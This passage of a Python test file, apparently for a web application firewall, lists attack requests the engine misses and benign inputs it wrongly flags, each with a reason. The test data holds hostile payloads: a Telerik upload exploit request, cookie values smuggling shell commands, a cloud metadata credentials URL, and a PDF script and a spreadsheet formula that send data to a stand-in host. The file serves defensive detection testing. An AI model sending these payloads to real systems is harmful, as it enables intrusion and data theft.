523\r\n\r\nform_key=Yk3LmN8pQ2rS5tUv&product%5Bname%5D=Trail+Jacket+2.0+%22Storm%22&product%5Bsku%5D=WB-TRAIL-20&product%5Bprice%5D=129.00&product%5Bdescription%5D=%3Cp%3EWaterproof+%2810%2C000+mm%29+%26amp%3B+breathable.%3C%2Fp%3E%3Cp%3E%3Cimg+src%3D%22%7B%7Bmedia+url%3D%26quot%3Bwysiwyg%2Fsize-chart.png%26quot%3B%7D%7D%22+alt%3D%22Size+chart%22%3E%3C%2Fp%3E%3Ctable%3E%3Ctr%3E%3Ctd%3ES%3C%2Ftd%3E%3Ctd%3E%26lt%3B+90+cm%3C%2Ftd%3E%3C%2Ftr%3E%3C%2Ftable%3E&product%5Burl_key%5D=trail-jacket-2-0-storm&affect_product_custom_options=1':
        'a product description with `<img src=…>`: as above',
})

KNOWN_MISS.update({
    'path::/cgi-bin/config.exp':
        'Cisco RV320 configuration export (CVE-2019-1653): the path alone, which its admins download too — not in the KEV pack for want of a certain unauthenticated marker',
    'path::/Telerik.Web.UI.WebResource.axd?type=rau':
        "a bare GET of Telerik's RadAsyncUpload handler: the endpoint every upload control on the site posts to",
    'raw::POST /Telerik.Web.UI.WebResource.axd?type=rau HTTP/1.1\r\nHost: target.example\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36\r\nContent-Type: multipart/form-data; boundary=----WebKitFormBoundaryx8Kq2ZrT0cVb1nLm\r\nContent-Length: 1133\r\n\r\n------WebKitFormBoundaryx8Kq2ZrT0cVb1nLm\r\nContent-Disposition: form-data; name="rauPostData"\r\n\r\nmQqtgzM9vBIHtHlGWVPsZW1t3uMRbnC4KVDNGfGkVHoYFOS0IDuSLEC1bcjrXnzN2ZuDpy4JAq0wyjWxCbqlzNcbn8Q5p2oCQb3IpKtHpZ4X0IwwLM6JvQ==&VGVsZXJpay5XZWIuVUkuQXN5bmNVcGxvYWRDb25maWd1cmF0aW9uLCBUZWxlcmlrLldlYi5VSSwgVmVyc2lvbj0yMDE3LjIuNzExLjQwLCBDdWx0dXJlPW5ldXRyYWwsIFB1YmxpY0tleVRva2VuPTEyMWZhZTc4MTY1YmEzZDQ=\r\n------WebKitFormBoundaryx8Kq2ZrT0cVb1nLm\r\nContent-Disposition: form-data; name="file"; filename="blob"\r\nContent-Type: application/octet-stream\r\n\r\nMZ\udc90\x00\x03\x00\x00\x00\x04\x00\x00\x00\udcff\udcffDllMain sleep.dll\r\n------WebKitFormBoundaryx8Kq2ZrT0cVb1nLm\r\nContent-Disposition: form-data; name="fileName"\r\n\r\nRAU_crypto.bypass\r\n------WebKitFormBoundaryx8Kq2ZrT0cVb1nLm\r\nContent-Disposition: form-data; name="contentType"\r\n\r\ntext/html\r\n------WebKitFormBoundaryx8Kq2ZrT0cVb1nLm\r\nContent-Disposition: form-data; name="lastModifiedDate"\r\n\r\n2019-01-02T03:04:05.067Z\r\n------WebKitFormBoundaryx8Kq2ZrT0cVb1nLm\r\nContent-Disposition: form-data; name="metadata"\r\n\r\n{"TotalChunks":1,"ChunkIndex":0,"TotalFileSize":1,"UploadID":"1570123456.dll"}\r\n------WebKitFormBoundaryx8Kq2ZrT0cVb1nLm--\r\n':
        "a RadAsyncUpload post whose rauPostData names the ordinary AsyncUploadConfiguration type (the exploit's encrypted half is opaque; the writer noted its blob would not work); the pack's CVE-2019-18935 rule needs the gadget named",
    'path::/Telerik.Web.UI.DialogHandler.aspx?DialogName=DocumentManager&renderMode=2&Skin=Default&Title=Document%20Manager&dpptn=&isRtl=false&dp=JEM2ZTdlRjU4JUAmPUAkJGBkPzg2QCU8fDM%3D':
        "Telerik DialogHandler with an encrypted `dp` (CVE-2017-9248): the same request the editor's dialogs send; the key brute force shows only as volume",
})


KNOWN_MISS.update({
    "query:id:'":
        "a lone quote: one character carries no payload (every value under two characters is skipped); the scan's next "
        "request (`1'`, `'--`, `' or 1=1`) is caught",
    'cookie:session_note:x;ls env:':
        "the `;` ends the cookie: the application gets `session_note=x` and a cookie named `ls env:`, never a command line",
    'cookie:pref:x;systeminfo':
        "the `;` ends the cookie: the application gets `pref=x` and a bare cookie named `systeminfo`",
    'cookie:tracking:abc;sleep 10':
        "the `;` ends the cookie: the application gets `tracking=abc` and a cookie named `sleep 10`",
})
KNOWN_MISS.update({
    'json:id:0000012345':
        "a zero-padded number: invoice, account and ZIP numbers look so, and leading zeros mean nothing to SQL",
    'cookie:pref:1;shutdown#':
        "the `;` ends the cookie: the application gets `pref=1` and a cookie named `shutdown#`",
    'query:id:5"':
        'a double quote after a number is also an inch mark (`12"` under `id` is pinned clean in test_wild_sqli); `5\'` '
        'and `"5` are caught, and a scan\'s next request is',
    'cookie:item:9 and 1337=1337':
        "sent as the whole pair `9 and 1337=1337`: the application sees a cookie named `9 and 1337` (reported, 0.43)",
    'path::/api/search?`password`=1':
        "a backticked parameter name is reported (sqli:backtick_name, 0.45), not blocked: a name alone carries no "
        "payload, and CRS counts such names only at paranoia level 3",
    'form:name:bob\\r\\nEHLO attacker.example':
        "the value holds the four characters backslash-r-backslash-n, not a line break: no SMTP line is injected",
})
KNOWN_FP.update({
    'form:issue_body:Steps:\n1. git clone ...\n2. cd app && make\n3. see error `cc: command not found`\n\nExpected: builds\nActual: fails':
        "a shell command chain in an issue body: code in tickets by design, a per-site rule cures it",
    'path::/docs/guides/../reference/cli#--dry-run':
        "a browser removes dot segments before it sends a path (RFC 3986 5.2.4): `/../` in a request line comes from a "
        "tool",
    'query:q:php $_SERVER HTTP_HOST empty':
        "`php` with a `$_SERVER` argument: in a shell the variable expands and php runs; a search box's plain words are "
        "only reported, but a variable is shell syntax (tests/detect/test_round12_rce.py)",
})


def _attacks() -> list[tuple[str, str, str, str]]:
    # round 4's writers added a description after the family: (family, description, carrier, key, value)
    return [*BLIND_ATTACKS_A, *BLIND_ATTACKS_B, *BLIND_ATTACKS_C, *BLIND_ATTACKS_D, *BLIND_ATTACKS_E, *BLIND_ATTACKS_F,
            *((f, c, k, v) for f, _what, c, k, v in (*BLIND_ATTACKS_G, *BLIND_ATTACKS_H, *BLIND_ATTACKS_J,
                                                  *BLIND_ATTACKS_K, *BLIND_ATTACKS_L, *BLIND_ATTACKS_M,
                                                  *BLIND_ATTACKS_N, *BLIND_ATTACKS_P, *BLIND_ATTACKS_Q,
                                                  *BLIND_ATTACKS_R, *BLIND_ATTACKS_S, *BLIND_ATTACKS_T,
                                                  *BLIND_ATTACKS_U, *BLIND_ATTACKS_V, *BLIND_ATTACKS_W,
                                                  *BLIND_ATTACKS_X, *BLIND_ATTACKS_Y, *BLIND_ATTACKS_ZA,
                                                  *BLIND_ATTACKS_ZB, *BLIND_ATTACKS_ZC, *BLIND_ATTACKS_ZD))]


def _benign() -> list[tuple[str, str, str]]:
    return [*BLIND_BENIGN, *BLIND_BENIGN_2, *BLIND_BENIGN_3, *BLIND_BENIGN_4, *BLIND_BENIGN_5, *BLIND_BENIGN_6,
            *BLIND_BENIGN_7, *BLIND_BENIGN_8, *BLIND_BENIGN_9, *BLIND_BENIGN_10, *BLIND_BENIGN_11,
            *BLIND_BENIGN_12, *BLIND_BENIGN_13, *BLIND_BENIGN_14,
            *BLIND_BENIGN_15]


def _label(carrier: str, key: str, value: str) -> str:
    return f"{carrier}:{key}:{value}"


def test_batches_and_known_lists():
    # independent writers converge on the classics: 269 attack requests and 72 benign values (the OAuth device-code
    # grant type, common browser headers, `Coeur d'Alene`) are in more than one batch, kept as written
    assert len(_attacks()) == 6394 and len({tuple(a[1:]) for a in _attacks()}) == 6125
    assert len(_benign()) == 4559 and len({tuple(b) for b in _benign()}) == 4487
    assert set(KNOWN_MISS) <= {_label(*a[1:]) for a in _attacks()}
    assert set(KNOWN_FP) <= {_label(*b) for b in _benign()}


@pytest.mark.parametrize("family,carrier,key,value", _attacks(), ids=lambda v: str(v)[:40])
def test_blind_attack_is_caught(engine, family, carrier, key, value):
    caught = verdict(engine.inspect(build_request(carrier, value, key))) == "attack"
    known = _label(carrier, key, value) in KNOWN_MISS
    assert caught != known, f"{family} via {carrier}: {'known miss now caught' if caught else 'missed'}"


@pytest.mark.parametrize("carrier,key,value", _benign(), ids=lambda v: str(v)[:40])
def test_blind_benign_stays_clean(engine, carrier, key, value):
    hits = engine.inspect(build_request(carrier, value, key))
    flagged = verdict(hits) == "attack"
    why = ", ".join(sorted({h.rule for h in hits if h.score >= 0.5}))
    known = _label(carrier, key, value) in KNOWN_FP
    assert flagged == known, f"{carrier}:{key}: {'flagged by ' + why if flagged else 'known FP now clean'}"


# Round 10 (stop 35): what is left of batches za, zb and benign_13, with reasons.
_REFERER_PARAM = ("a parameter of the page the browser came from: that page's own request carried it (and was judged "
                  "then); a URL header is read for what its parsers and loggers do, not for what its page does with "
                  "its parameters, and the XSS and URL analysers count there only when near-certain")
KNOWN_MISS.update({
    'header:Referer:Referer:https://www.shop.example.com/account/login?next=data%3Atext%2Fhtml%3Bbase64%2CPHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ%2B&lang=en&source=header_link&utm_source=app&utm_medium=banner':
        "a data: URL in `next`, " + _REFERER_PARAM,
    'header:Referer:Referer:https://www.shop.example.com/p/88412-oak-desk?variant=2&qty=1&ref=%3Cbase%20href%3D%22%2F%2Fevil.example%2F%22%3E&utm_source=pinterest&utm_medium=social&utm_campaign=home_office&epik=dj0yJnU9ZXhhbXBsZQ':
        "a <base href> in `ref`, percent-encoded (a log viewer shows it encoded), " + _REFERER_PARAM,
    'header:Referer:Referer:https://www.shop.example.com/share?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F&title=Look&via=shop&utm_source=share&utm_medium=button':
        "the metadata address in a share page's `url`, " + _REFERER_PARAM,
})
KNOWN_FP.update({
    'header:Referer:Referer:https://kibana.example.com/app/discover?_g=(filters:!(),refreshInterval:(pause:!t,value:0),time:(from:now-15m,to:now))&_a=(columns:!(message,host.name),index:%27logs-*%27,interval:auto,query:(language:kuery,query:%27service.name%20:%20%22checkout%22%20and%20http.response.status_code%20%3E%3D%20500%27),sort:!(!(%27@timestamp%27,desc)))':
        "Kibana's app state with a quoted KQL condition in a query parameter (Kibana itself keeps it after `#`, which "
        "a browser leaves out of a Referer; the writer moved it): as the request's own parameter it reads as a quote "
        "breakout too",
    'cookie:next-auth.callback-url:next-auth.callback-url=http%3A%2F%2Flocalhost%3A3000%2Fdashboard':
        "NextAuth's callback URL on a developer's machine: a loopback URL in a callback is the shape of SSRF; a site "
        "served on localhost is not one a WAF sits in front of",
    "query:$where:date_of_incident > '2023-01-01T00:00:00' AND borough = 'BROOKLYN'":
        "Socrata's SoQL `$where`: a top-level `$where` is also what `find(req.query)` hands MongoDB as JavaScript, and "
        "the name alone cannot tell the two apart; an open-data portal needs a rule",
    'query:$select:borough, count(*) AS n':
        "Socrata's SoQL `$select`: a select list with an aggregate and an alias is SQL by design; see `$where`",
    'query:sql:SELECT "State", AVG("Median Income") AS avg_income FROM "2b3c4d5e-6f70-4819-a2b3-c4d5e6f70819" WHERE "Year" = 2022 GROUP BY "State" ORDER BY avg_income DESC LIMIT 10':
        "a data portal's SQL endpoint (CKAN datastore_search_sql): a whole SELECT by design, a per-site rule",
    "form:query:SELECT station, date, tmax, tmin FROM ghcn_daily WHERE station = 'USW00094728' AND date BETWEEN '2023-06-01' AND '2023-08-31' ORDER BY date":
        "a data portal's SQL console: see the SQL endpoint",
    'form:question:Which of the following do you use for data analysis? (select all that apply) R; Python; SPSS; Stata; Excel; Other: ____':
        "a survey's options after a question, `;`-separated: `Python` stands after `;` as a command would (PowerShell "
        "reads names in any case), and the question before the list is no list item",
})
KNOWN_FP.update({
    "query:q:SELECT Id, Name, Amount, CloseDate, Account.Name FROM Opportunity WHERE StageName = 'Closed Won' AND CloseDate = THIS_QUARTER ORDER BY Amount DESC LIMIT 50":
        "Salesforce SOQL in `q`: a whole SELECT by design, an API proxy needs a rule",
    "query:query:select * from Invoice where TotalAmt > '100.00' and TxnDate >= '2024-04-01' orderby TxnDate desc maxresults 50":
        "QuickBooks' query language: see SOQL",
    'json:kodi:{"jsonrpc":"2.0","method":"Player.Open","params":{"item":{"file":"smb://nas/media/Movies/The General (1926)/The.General.1926.mkv"},"options":{"resume":true}},"id":"libPlayer"}':
        "an SMB share in a `file` member (Kodi's JSON-RPC): a remote scheme where a file name goes is how inclusion "
        "and NTLM-leak attacks look",
})

# Round 11 (stop 35): what is left of batches zd and benign_15, with reasons.
KNOWN_MISS.update({
    'raw::POST /support/tickets/attach HTTP/1.1\r\nHost: app.example\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36\r\nAccept: application/json, text/javascript, */*; q=0.01\r\nOrigin: https://app.example\r\nReferer: https://app.example/admin/\r\nContent-Type: multipart/form-data; boundary=----WebKitFormBoundaryZd4qK9mXr2TfLw8B\r\nContent-Length: 400\r\n\r\n------WebKitFormBoundaryZd4qK9mXr2TfLw8B\r\nContent-Disposition: form-data; name="file"; filename="receipt.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n3 0 obj<</S/JavaScript/JS(app.alert(1); this.submitForm({cURL:"https://x.example/c",cSubmitAs:"HTML"}))>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n\r\n------WebKitFormBoundaryZd4qK9mXr2TfLw8B--\r\n':
        "a PDF whose OpenAction runs JavaScript: uploads of binary types are judged by name and headers only; a PDF's scripts are its reader's matter",
    'raw::POST /cms/assets/upload HTTP/1.1\r\nHost: app.example\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36\r\nAccept: application/json, text/javascript, */*; q=0.01\r\nOrigin: https://app.example\r\nReferer: https://app.example/admin/\r\nContent-Type: multipart/form-data; boundary=----WebKitFormBoundaryZd4qK9mXr2TfLw8B\r\nContent-Length: 354\r\n\r\n------WebKitFormBoundaryZd4qK9mXr2TfLw8B\r\nContent-Disposition: form-data; name="file"; filename="crossdomain.xml"\r\nContent-Type: text/xml\r\n\r\n<?xml version="1.0"?><cross-domain-policy><allow-access-from domain="*" secure="false"/><allow-http-request-headers-from domain="*" headers="*"/></cross-domain-policy>\r\n------WebKitFormBoundaryZd4qK9mXr2TfLw8B--\r\n':
        'a Flash/Silverlight cross-domain policy uploaded as a file: its name is no script, and both plug-ins are gone from browsers',
    'form:address:=IMPORTXML(CONCAT("http://x.example/?",A2),"//a")':
        'formula exfiltration through one cell is how people build lookups (docs/detection.md); only ranges or several cells count',
})
KNOWN_FP.update({
    'form:wpcf7-mail[body]:From: [your-name] <[your-email]>\nSubject: [your-subject]\n\nMessage Body:\n[your-message]\n\n-- \nThis e-mail was sent from a contact form on [_site_title] ([_site_url])':
        "Contact Form 7's mail template: `From:` and `Subject:` lines in a field are what header injection looks like; the plugin's settings page needs a rule",
    'form:content:<p>{{widget type="Magento\\CatalogWidget\\Block\\Product\\ProductsList" show_pager="0" products_count="8" template="Magento_CatalogWidget::product/widget/content/grid.phtml" conditions_encoded="^[`1`:^[`type`:`Magento||CatalogWidget||Model||Rule||Condition||Combine`,`aggregator`:`all`,`value`:`1`,`new_child`:``^]^]"}}</p>\n<p><img src="{{media url="wysiwyg/banners/summer-sale.jpg"}}" alt="Summer sale banner"></p>\n<p><a href="{{store url="customer/account/create"}}">Create an account</a></p>':
        'Magento\'s `{{media url="…"}}` inside `src="…"`: the inner quotes end the attribute early, markup an injection leaves too',
    'json:html_body:<!DOCTYPE html>\n<html lang="en" xmlns:v="urn:schemas-microsoft-com:vml">\n<head>\n<meta charset="utf-8">\n<meta name="viewport" content="width=device-width, initial-scale=1">\n<meta name="x-apple-disable-message-reformatting">\n<title>Your receipt</title>\n<!--[if mso]><xml><o:OfficeDocumentSettings><o:PixelsPerInch>96</o:PixelsPerInch></o:OfficeDocumentSettings></xml><![endif]-->\n</head>\n<body style="margin:0;padding:0;background-color:#f4f4f5;">\n<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" style="background-color:#f4f4f5;">\n<tr><td align="center" style="padding:24px 12px;">\n<table role="presentation" width="600" cellpadding="0" cellspacing="0" border="0" style="max-width:600px;background:#ffffff;border-radius:8px;">\n<tr><td style="padding:32px;font-family:Arial,Helvetica,sans-serif;font-size:16px;line-height:24px;color:#111827;">\n<h1 style="margin:0 0 16px;font-size:22px;">Thanks for your order, {{first_name}}!</h1>\n<p style="margin:0 0 24px;">Order <strong>#{{order_number}}</strong> was placed on {{order_date}}.</p>\n<a href="{{order_url}}" style="display:inline-block;background:#2563eb;color:#ffffff;text-decoration:none;padding:12px 20px;border-radius:6px;">View order</a>\n</td></tr>\n</table>\n</td></tr>\n</table>\n</body>\n</html>':
        'a whole HTML e-mail in a JSON field: markup with attributes by design; a template API needs a rule',
    'json:readme:# acme-widgets\n\nA tiny library for rendering dashboard widgets.\n\n[![npm](https://img.shields.io/npm/v/acme-widgets.svg)](https://www.npmjs.com/package/acme-widgets)\n\n## Installation\n\n```bash\nnpm install acme-widgets\n```\n\n## Configuration\n\n```yaml\nwidgets:\n  theme: dark\n  refresh_interval: 30\n  locale: en-GB\n```\n\n## License\n\nMIT © 2024 Acme Ltd.':
        'a README with a fenced `npm install`: code by design (see the forum posts above)',
    'form:body:### Environment\n\nCopy `.env.example` to `.env` and adjust:\n\n```env\nAPP_ENV=local\nAPP_URL=http://localhost:8000\nMAIL_FROM_ADDRESS=hello@example.com\nCACHE_DRIVER=redis\n```':
        'a fenced `.env` block: code by design',
    'form:wiki:h1. Release plan\n\n||Version||Date||Owner||\n|2.4|10 May|Ana|\n|2.5|14 June|Ben|\n\n{info}Code freeze is two days before each release.{info}\n\n{code:language=bash}\n./gradlew assembleRelease\n{code}':
        'a Confluence code macro with a build command: code by design',
    'form:body:= Release Guide\n:toc:\n:icons: font\n\n== Building\n\n[source,shell]\n----\nmvn -B package\n----\n\nNOTE: Artifacts land in `target/`.':
        'an AsciiDoc shell block: code by design',
    'form:content:<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-3a1f2b7c-7fff-c1d2-e3f4-5a6b7c8d9e0f"><p dir="ltr" style="line-height:1.38;margin-top:0pt;margin-bottom:0pt;"><span style="font-size:11pt;font-family:Arial,sans-serif;color:#000000;background-color:transparent;font-weight:400;font-style:normal;vertical-align:baseline;white-space:pre-wrap;">Draft press release – embargoed until 9am Tuesday.</span></p></b>':
        'Google Docs pastes begin with `<meta charset="utf-8">`; an injected meta charset re-decodes the page (CRS 941260 counts it), so it stays',
    'raw::POST /api/v1/gradebook/import HTTP/1.1\r\nHost: school.example.org\r\nConnection: keep-alive\r\nContent-Length: 542\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36\r\nContent-Type: multipart/form-data; boundary=----WebKitFormBoundaryq7Yv2kLm9XcT4pRz\r\nAccept: */*\r\nOrigin: https://school.example.org\r\nAccept-Encoding: gzip, deflate, br\r\nAccept-Language: en-GB,en;q=0.9\r\n\r\n------WebKitFormBoundaryq7Yv2kLm9XcT4pRz\r\nContent-Disposition: form-data; name="file"; filename="grades_year10_maths.csv"\r\nContent-Type: text/csv\r\n\r\nStudent,Test 1,Test 2,Test 3,Average,Result\r\n"Okafor, Chidi",78,84,91,=AVERAGE(B2:D2),"=IF(E2>=50,""Pass"",""Resit"")"\r\n"Nowak, Zofia",65,59,72,=AVERAGE(B3:D3),"=IF(E3>=50,""Pass"",""Resit"")"\r\n"Rossi, Luca",44,52,49,=AVERAGE(B4:D4),"=IF(E4>=50,""Pass"",""Resit"")"\r\nClass average,=AVERAGE(B2:B4),=AVERAGE(C2:C4),=AVERAGE(D2:D4),=AVERAGE(E2:E4),\r\n\r\n------WebKitFormBoundaryq7Yv2kLm9XcT4pRz--\r\n':
        'a CSV upload whose cells are formulas (`=IF(E2>=50,""Pass"",…)`): SQL-shaped calls in a text upload; a gradebook import needs a rule',
    'raw::POST /email/templates/upload HTTP/1.1\r\nHost: mail.example.com\r\nConnection: keep-alive\r\nContent-Length: 1131\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36\r\nContent-Type: multipart/form-data; boundary=----WebKitFormBoundaryq7Yv2kLm9XcT4pRz\r\nAccept: */*\r\nOrigin: https://mail.example.com\r\nAccept-Encoding: gzip, deflate, br\r\nAccept-Language: en-GB,en;q=0.9\r\n\r\n------WebKitFormBoundaryq7Yv2kLm9XcT4pRz\r\nContent-Disposition: form-data; name="template"; filename="order-confirmation.html"\r\nContent-Type: text/html\r\n\r\n<!DOCTYPE html>\r\n<html lang="en">\r\n<head>\r\n<meta charset="utf-8">\r\n<meta name="viewport" content="width=device-width, initial-scale=1">\r\n<title>Order confirmation</title>\r\n<style>\r\n  @media only screen and (max-width: 600px) { .container { width: 100% !important; } }\r\n</style>\r\n</head>\r\n<body style="margin:0;background:#f6f6f6;">\r\n<table role="presentation" class="container" width="600" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Arial,sans-serif;">\r\n  <tr><td style="padding:24px;font-size:20px;font-weight:bold;">Thanks, {{ customer.first_name }}!</td></tr>\r\n  <tr><td style="padding:0 24px 24px;font-size:15px;color:#444;">We received order {{ order.name }} and will e-mail you when it ships.</td></tr>\r\n  <tr><td style="padding:16px 24px;font-size:12px;color:#999;border-top:1px solid #eee;">Clayworks Studio · 4 Mill Lane · Bristol BS1 4QA</td></tr>\r\n</table>\r\n</body>\r\n</html>\r\n\r\n------WebKitFormBoundaryq7Yv2kLm9XcT4pRz--\r\n':
        'an HTML e-mail template uploaded as a file, CRLF line ends and a full document: markup and line breaks by design',
    'raw::POST /docs/import HTTP/1.1\r\nHost: wiki.example.com\r\nConnection: keep-alive\r\nContent-Length: 495\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36\r\nContent-Type: multipart/form-data; boundary=----WebKitFormBoundaryq7Yv2kLm9XcT4pRz\r\nAccept: */*\r\nOrigin: https://wiki.example.com\r\nAccept-Encoding: gzip, deflate, br\r\nAccept-Language: en-GB,en;q=0.9\r\n\r\n------WebKitFormBoundaryq7Yv2kLm9XcT4pRz\r\nContent-Disposition: form-data; name="file"; filename="CONTRIBUTING.md"\r\nContent-Type: text/markdown\r\n\r\n# Contributing\r\n\r\nThanks for helping out! 🎉\r\n\r\n1. Fork the repo and create a branch: `git checkout -b fix/typo-in-readme`\r\n2. Run the tests:\r\n\r\n   ```bash\r\n   npm ci\r\n   npm test\r\n   ```\r\n\r\n3. Open a pull request and fill in the template.\r\n\r\nPlease follow the [code of conduct](CODE_OF_CONDUCT.md).\r\n\r\n------WebKitFormBoundaryq7Yv2kLm9XcT4pRz--\r\n':
        'a Markdown file with fenced shell commands: code by design',
})
